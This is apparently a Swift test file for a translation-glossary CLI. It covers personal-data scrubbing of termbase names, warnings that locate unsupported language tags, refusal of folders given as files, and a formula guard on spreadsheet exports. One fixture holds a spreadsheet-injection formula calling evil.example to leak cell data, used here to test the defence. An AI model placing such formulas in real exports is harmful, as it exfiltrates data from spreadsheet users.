import Foundation
import Testing
import VerbaleCore
import VerbaleTestSupport

/// What the 30 Nov stop's closing note left out of `glossary import` and `export`: termbase
/// names scrubbed like origins (G1 follow-up), the G2 warning's file:line:column, the formula
/// guard on TSV/CSV export (m19), and a folder given as a file (m10).
@Suite("verbale glossary: names scrubbed, warnings placed, formulas guarded, folders refused")
struct GlossaryFollowUpCLITests {
    static let repo = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
    static let diplomatic = repo.appendingPathComponent("Glossaries/diplomatic.tbx")

    static func write(_ text: String, _ name: String, in folder: URL) throws -> String {
        let url = folder.appendingPathComponent(name)
        try Data(text.utf8).write(to: url)
        return url.path
    }

    static func export(_ memory: String, termbase: String, format: String = "tsv", _ extra: [String] = []) throws -> String {
        let result = try CLI.run(["glossary", "export", "--memory", memory, "--format", format, "--termbase", termbase] + extra + ["-"])
        #expect(result.status == 0, "\(result.stderr)")
        return result.stdout
    }

    // MARK: - Termbase names (G1 follow-up)

    @Test("The shipped diplomatic.tbx saved under a person's e-mail or name: the termbase and its file are stored scrubbed, the concepts unchanged")
    func shippedTermbaseUnderPersonalNames() throws {
        let dir = try Scratch.folder("verbale-glossary-names")
        let email = dir.appendingPathComponent("jane.doe@mfa.gov.kh-terms.tbx")
        let person = dir.appendingPathComponent("visa_Mr_Sok_Dara.tbx")
        let khmer = dir.appendingPathComponent("ឯកសារ_លោក_សុខ_ដារា.tbx")
        for copy in [email, person, khmer] { try FileManager.default.copyItem(at: Self.diplomatic, to: copy) }
        let memory = GlossaryCLITests.memory()
        let report = dir.appendingPathComponent("report.tsv").path
        let result = try CLI.run(["glossary", "import", "--memory", memory, "--report", report, email.path, person.path, khmer.path])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout.contains("{EMAIL}: 82 concepts added"), "\(result.stdout)")
        #expect(result.stdout.contains("visa_Mr_{PERSON}: 82 concepts added"), "\(result.stdout)")
        #expect(result.stdout.contains("ឯកសារ_លោក_{PERSON}: 82 concepts added"), "\(result.stdout)")
        #expect(result.stderr.contains("its termbase is stored as \"{EMAIL}\""), "\(result.stderr)")

        let secrets = ["jane.doe", "mfa.gov.kh-terms", "Sok_Dara", "Sok Dara", "សុខ_ដារា", "ដារា"]
        let lookup = try CLI.run(["glossary", "lookup", "--json", "--memory", memory, "--limit", "10", "note verbale"])
        #expect(lookup.stdout.contains("\"termbase\" : \"visa_Mr_{PERSON}\"") && lookup.stdout.contains("\"file\" : \"visa_Mr_{PERSON}.tbx\""), "\(lookup.stdout)")
        let text = try CLI.run(["glossary", "lookup", "--memory", memory, "--limit", "10", "note verbale"])
        #expect(text.stdout.contains("from: {EMAIL}.tbx#dipl:note-verbale, termbase {EMAIL}"), "\(text.stdout)")
        let bytes = String(decoding: try Data(contentsOf: URL(fileURLWithPath: memory)), as: UTF8.self)
        for secret in secrets {
            #expect(!lookup.stdout.contains(secret) && !text.stdout.contains(secret), "\(secret) in lookup")
            #expect(!bytes.contains(secret), "\(secret) in the SQLite file")
        }
        // Only the names changed: each copy exports exactly as the shipped termbase does.
        let shipped = try Self.export(memory, termbase: "shipped:diplomatic.tbx")
        for name in ["{EMAIL}", "visa_Mr_{PERSON}", "ឯកសារ_លោក_{PERSON}"] {
            #expect(try Self.export(memory, termbase: name) == shipped, "\(name)")
        }
        // The originals are in the report only, field `termbase file`.
        let rows = try String(contentsOfFile: report, encoding: .utf8)
        #expect(rows.contains("\tEMAIL\t{EMAIL}\t0\t25\tjane.doe@mfa.gov.kh-terms\ttermbase file\n"), "\(rows)")
        #expect(rows.contains("Sok_Dara\ttermbase file\n") && rows.contains("សុខ_ដារា\ttermbase file\n"), "\(rows)")
    }

    @Test("--termbase NAME is scrubbed too (EN and Khmer); --keep-personal-data keeps names as given")
    func explicitNames() throws {
        let dir = try Scratch.folder("verbale-glossary-names")
        let file = try Self.write("en\tkm\nembassy\tស្ថានទូត\n", "terms.tsv", in: dir)
        let memory = GlossaryCLITests.memory()
        let english = try CLI.run(["glossary", "import", "--memory", memory, "--termbase", "terms of Mr. Vannak Heng", file])
        #expect(english.status == 0 && english.stdout.contains("terms of Mr. {PERSON}: 1 concepts added"), "\(english.stdout)\(english.stderr)")
        let khmer = try CLI.run(["glossary", "import", "--memory", memory, "--json", "--termbase", "វាក្យសព្ទ\u{200B}របស់\u{200B}លោក សុខ ដារា", file])
        #expect(khmer.status == 0, "\(khmer.stderr)")
        #expect(khmer.stdout.contains("\"termbase\" : \"វាក្យសព្ទ\u{200B}របស់\u{200B}លោក {PERSON}\""), "\(khmer.stdout)")
        #expect(khmer.stdout.contains("\"PERSON\" : 1"), "\(khmer.stdout)")
        let bytes = String(decoding: try Data(contentsOf: URL(fileURLWithPath: memory)), as: UTF8.self)
        #expect(!bytes.contains("Vannak") && !bytes.contains("ដារា"))

        let kept = GlossaryCLITests.memory()
        let keep = try CLI.run(["glossary", "import", "--memory", kept, "--keep-personal-data", "--termbase", "terms of Mr. Vannak Heng", file])
        #expect(keep.status == 0 && keep.stdout.contains("terms of Mr. Vannak Heng: 1 concepts added"), "\(keep.stdout)")
        #expect(!keep.stderr.contains("stored as"))
    }

    @Test("Real data: ../shared/data's sourced-terms.tsv read under an e-mail name and piped in with one as --termbase: same concepts, no e-mail stored",
          .enabled(if: SharedData.file("glossary/sourced-terms.tsv") != nil, "../shared/data is absent"))
    func sharedDataUnderPersonalName() throws {
        let source = try #require(SharedData.file("glossary/sourced-terms.tsv"))
        let dir = try Scratch.folder("verbale-glossary-names")
        // A link, so the shared file is read where it is under a personal name.
        let link = dir.appendingPathComponent("sokha.chan@mfa.gov.kh.tsv")
        try FileManager.default.createSymbolicLink(at: link, withDestinationURL: source)
        let memory = GlossaryCLITests.memory()
        let plain = try CLI.run(["glossary", "import", "--memory", memory, "--termbase", "sourced", source.path])
        #expect(plain.status == 0, "\(plain.stderr)")
        let named = try CLI.run(["glossary", "import", "--memory", memory, link.path])
        #expect(named.status == 0 && named.stdout.hasPrefix("{EMAIL}: 36 concepts added"), "\(named.stdout)\(named.stderr)")
        let piped = try CLI.run(["glossary", "import", "--memory", memory, "--format", "tsv", "--termbase", "piped by sokha.chan@mfa.gov.kh", "-"],
                                stdin: try String(contentsOf: source, encoding: .utf8))
        #expect(piped.status == 0 && piped.stdout.hasPrefix("piped by {EMAIL}: 36 concepts added"), "\(piped.stdout)\(piped.stderr)")
        let reference = try Self.export(memory, termbase: "sourced")
        // Ids of rows without one name the file (`FILE#LINE`): compare the rest of each row.
        func body(_ table: String) -> [Substring] { table.split(separator: "\n").map { $0.drop { $0 != "\t" } } }
        let scrubbed = try Self.export(memory, termbase: "{EMAIL}")
        #expect(body(scrubbed) == body(reference))
        // Those ids follow the file's stored name, not the e-mail.
        #expect(scrubbed.contains("\n{EMAIL}.tsv#2\t"), "\(scrubbed.prefix(600))")
        #expect(body(try Self.export(memory, termbase: "piped by {EMAIL}")) == body(reference))
        let bytes = String(decoding: try Data(contentsOf: URL(fileURLWithPath: memory)), as: UTF8.self)
        #expect(!bytes.contains("sokha.chan"))
    }

    @Test("A TBX title and sourceDesc holding a name and an e-mail never reach the memory file, lookup or export")
    func headerNeverStored() throws {
        let tbx = """
        <?xml version="1.0" encoding="UTF-8"?>
        <tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">
        <tbxHeader><fileDesc><titleStmt><title>Terms of Mr. Vannak Heng (vannak.heng@mfa.gov.kh)</title></titleStmt>
        <sourceDesc><p>Kept by លោក សុខ ដារា, +855 12 345 678</p></sourceDesc></fileDesc></tbxHeader>
        <text><body>
        <conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>consulate general</term></termSec></langSec>
        <langSec xml:lang="km"><termSec><term>អគ្គកុងស៊ុល</term></termSec></langSec></conceptEntry>
        </body></text></tbx>
        """
        let dir = try Scratch.folder("verbale-glossary-names")
        let memory = GlossaryCLITests.memory()
        let result = try CLI.run(["glossary", "import", "--memory", memory, try Self.write(tbx, "header.tbx", in: dir)])
        #expect(result.status == 0, "\(result.stderr)")
        let exported = try Self.export(memory, termbase: "header", format: "tbx")
        #expect(exported.contains("អគ្គកុងស៊ុល"))
        let lookup = try CLI.run(["glossary", "lookup", "--json", "--memory", memory, "consulate general"])
        let bytes = String(decoding: try Data(contentsOf: URL(fileURLWithPath: memory)), as: UTF8.self)
        for secret in ["Vannak", "vannak.heng", "សុខ", "ដារា", "345 678"] {
            #expect(!bytes.contains(secret) && !exported.contains(secret) && !lookup.stdout.contains(secret), "\(secret)")
        }
    }

    // MARK: - Where the unsupported language is (G2 follow-up)

    @Test("The G2 warning gives file:line:column: a TSV's header cell (past a Khmer header), a quoted CSV cell, a TBX v2 langSet and v3 langSec")
    func warningLocations() throws {
        let dir = try Scratch.folder("verbale-glossary-languages")
        let tsv = try Self.write("en\tកំណត់សម្គាល់\tkh\nembassy\tចំណាំ\tស្ថានទូត\n", "g.tsv", in: dir)
        let csv = try Self.write("# exported by hand\n\"en\",\"kh\",de\nembassy,ស្ថានទូត,Botschaft\n", "g.csv", in: dir)
        // Our fixtures: v2 with `kh` langSets at 5:3 and 6:20; v3 with a `kh-KH` langSec at 3:96.
        let v2 = GlossaryCLITests.fixture("kh-langsets-v2.tbx")
        let v3 = GlossaryCLITests.fixture("kh-langsecs-v3.tbx")
        let memory = GlossaryCLITests.memory()
        let result = try CLI.run(["glossary", "import", "--memory", memory, tsv, csv, v2, v3])
        #expect(result.status == 0, "\(result.stderr)")
        let expected = [
            "warning: \(tsv):1:17: the language \"kh\" is not one Verbale supports (en, fr, km); its 1 term is kept under \"kh\" (header cell 3), which en/fr/km lookups and checks do not use; Khmer is \"km\": rerun with --lang-map kh=km",
            "warning: \(csv):2:6: the language \"kh\" is not one Verbale supports (en, fr, km); its 1 term is kept under \"kh\" (header cell 2)",
            "warning: \(csv):2:11: the language \"de\" is not one Verbale supports (en, fr, km); its 1 term is kept under \"de\" (header cell 3)",
            "warning: \(v2):5:3: the language \"kh\" is not one Verbale supports (en, fr, km); its 2 terms are kept under \"kh\" (first <langSet> in it)",
            "warning: \(v3):3:96: the language \"kh-KH\" is not one Verbale supports (en, fr, km); its 1 term is kept under \"kh-KH\" (first <langSec> in it)",
        ]
        for line in expected { #expect(result.stderr.contains(line), "\(line)\n---\n\(result.stderr)") }
        // Mapped, there is nothing to warn about.
        let mapped = try CLI.run(["glossary", "import", "--memory", memory, "--lang-map", "kh=km", "--lang-map", "kh-KH=km", tsv, v2, v3])
        #expect(mapped.status == 0 && !mapped.stderr.contains("not one Verbale supports"), "\(mapped.stderr)")
    }

    @Test("A tag mapped onto another unsupported one is placed where the file wrote the original")
    func mappedLocation() throws {
        let dir = try Scratch.folder("verbale-glossary-languages")
        let tsv = try Self.write("en\tkh\nembassy\tស្ថានទូត\n", "g.tsv", in: dir)
        let result = try CLI.run(["glossary", "import", "--memory", GlossaryCLITests.memory(), "--lang-map", "kh=th", tsv])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stderr.contains("warning: \(tsv):1:4: the language \"th\" is not one Verbale supports"), "\(result.stderr)")
    }

    // MARK: - Formula guard (m19)

    /// Our own termbase whose cells a spreadsheet would run, in EN, FR and KM.
    static let formulas = """
    id\ten\tfr\tkm\tnote\ten source\tkm usage
    -ism\t-ism\t-isme\t-និយម\t=HYPERLINK("http://evil.example/?"&A1,"Click")\t+855 23 214 441\t- ចំណុច\u{200B}ទី\u{200B}មួយ
    embassy\tembassy\tambassade\tស្ថានទូត\t@protocol\t\t

    """

    @Test("export --format tsv|csv guards formula cells in EN/FR/KM, --no-formula-guard writes them bare, and a guarded export imports back exactly")
    func formulaGuard() throws {
        let dir = try Scratch.folder("verbale-glossary-formulas")
        let memory = GlossaryCLITests.memory()
        let imported = try CLI.run(["glossary", "import", "--memory", memory, "--keep-personal-data", try Self.write(Self.formulas, "f.tsv", in: dir)])
        #expect(imported.status == 0, "\(imported.stderr)")
        for format in ["tsv", "csv"] {
            let guarded = try Self.export(memory, termbase: "f", format: format)
            for cell in ["'-ism", "'-isme", "'-និយម", "'=HYPERLINK(", "'+855 23 214 441", "'- ចំណុច\u{200B}ទី\u{200B}មួយ", "'@protocol"] {
                #expect(guarded.contains(cell), "\(format): \(cell) not guarded")
            }
            let bare = try Self.export(memory, termbase: "f", format: format, ["--no-formula-guard"])
            #expect(!bare.contains("'-ism") && !bare.contains("'=HYPERLINK") && !bare.contains("'- ចំណុច") && bare.contains("-និយម"), "\(bare)")

            let again = GlossaryCLITests.memory()
            let back = try CLI.run(["glossary", "import", "--memory", again, "--keep-personal-data", "--format", format, "--termbase", "f", "-"], stdin: guarded)
            #expect(back.status == 0, "\(back.stderr)")
            #expect(try Self.export(again, termbase: "f", format: format) == guarded, "\(format): the guarded export does not import back exactly")
            #expect(try Self.export(again, termbase: "f", format: "tbx") == (try Self.export(memory, termbase: "f", format: "tbx")))
        }
    }

    @Test("glossary export --help documents --no-formula-guard with export's wording")
    func formulaGuardHelp() throws {
        let glossary = try CLI.run(["glossary", "export", "--help"])
        let memory = try CLI.run(["export", "--help"])
        #expect(glossary.stdout.contains("--no-formula-guard") && glossary.stdout.contains("leading apostrophe"), "\(glossary.stdout)")
        let flag = { (help: String) in help.components(separatedBy: "--no-formula-guard").dropFirst().last?.prefix(80) }
        #expect(flag(glossary.stdout) == flag(memory.stdout))
    }

    // MARK: - A folder (m10)

    @Test("glossary import FOLDER: \"PATH: is a folder, not a file\", exit 64, and no memory is created")
    func folder() throws {
        let dir = try Scratch.folder("verbale-glossary-folder")
        let folder = dir.appendingPathComponent("ស្ថានទូត-terms")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let memory = GlossaryCLITests.missingMemory()
        let result = try CLI.run(["glossary", "import", "--memory", memory, try Self.write("en\tkm\nembassy\tស្ថានទូត\n", "ok.tsv", in: dir), folder.path])
        #expect(result.status == 64, "\(result.status) \(result.stderr)")
        #expect(result.stderr.contains("\(folder.path): is a folder, not a file"), "\(result.stderr)")
        #expect(!result.stderr.contains("NSCocoaErrorDomain") && !result.stderr.contains("couldn’t be opened"))
        #expect(!FileManager.default.fileExists(atPath: memory), "a refused import created a memory")
    }
}
